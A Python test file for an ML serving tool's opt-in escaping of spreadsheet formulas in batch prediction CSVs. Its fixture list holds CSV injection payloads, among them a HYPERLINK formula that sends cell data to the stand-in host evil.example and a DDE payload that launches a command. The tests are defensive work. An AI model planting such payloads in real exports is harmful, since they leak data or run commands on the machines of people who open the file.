"""Issue 11 (Low): CSV formula injection, opt-in `batch_escape_formulas`.

A passthrough cell like `=HYPERLINK(...)` is inert to mlserve but live in a spreadsheet that
opens the predictions. With MLSERVE_BATCH_ESCAPE_FORMULAS=true (context batch_escape_formulas)
passthrough cells starting with = + - @ get a leading `'`; model columns, prediction columns
and every other record stay byte for byte. Off by default (it changes the caller's data).
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pandas as pd
import pytest

KEY = "incoming/formulas.csv"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-cmd|' /C calc'!A0", "@SUM(A1)", '"=1, quoted"']


def upload(batch_env: Any, breast_cancer: pd.DataFrame) -> bytes:
    frame = breast_cancer.head(len(HOSTILE) + 1).copy()
    frame.insert(0, "note", [*HOSTILE, "plain, text"])
    frame.insert(1, "id", [f"r{i}" for i in range(len(frame))])
    body = frame.to_csv(index=False).encode()
    batch_env.run(batch_env.upload(KEY, body))
    return body


def test_formulas_pass_through_unescaped_by_default(batch_env: Any, breast_cancer: pd.DataFrame) -> None:
    upload(batch_env, breast_cancer)
    out = list(csv.reader(io.StringIO(batch_env.predictions(KEY).decode())))
    assert [row[0] for row in out[1:]] == [*HOSTILE, "plain, text"]


def test_opt_in_escapes_passthrough_formula_cells(
    batch_env: Any, breast_cancer: pd.DataFrame, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MLSERVE_BATCH_ESCAPE_FORMULAS", "true")
    body = upload(batch_env, breast_cancer)
    text = batch_env.predictions(KEY).decode()
    out = list(csv.reader(io.StringIO(text)))
    notes = [row[0] for row in out[1:]]
    for note, original in zip(notes, [*HOSTILE, "plain, text"], strict=True):
        expected = "'" + original if original.startswith(("=", "+", "-", "@")) else original
        assert note == expected
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in out[1:] for cell in row[:2])
    # Model columns untouched (numbers as written), predictions still there.
    source = list(csv.reader(io.StringIO(body.decode())))
    for got, sent in zip(out[1:], source[1:], strict=True):
        assert got[2 : len(sent)] == sent[2:]
    assert batch_env.report(KEY)["rows_scored"] == len(HOSTILE) + 1
    # The record without a formula keeps its exact bytes.
    plain_line = next(line for line in body.decode().splitlines() if line.startswith('"plain, text"'))
    assert plain_line + "," in text


def test_negative_numbers_in_model_columns_are_never_escaped() -> None:
    from mlserve.batch.formulas import escape_formulas

    output = b"-1.5,=x,-2\n3,4,5\n"
    assert escape_formulas(output, [1], 2) == b"-1.5,'=x,-2\n3,4,5\n"
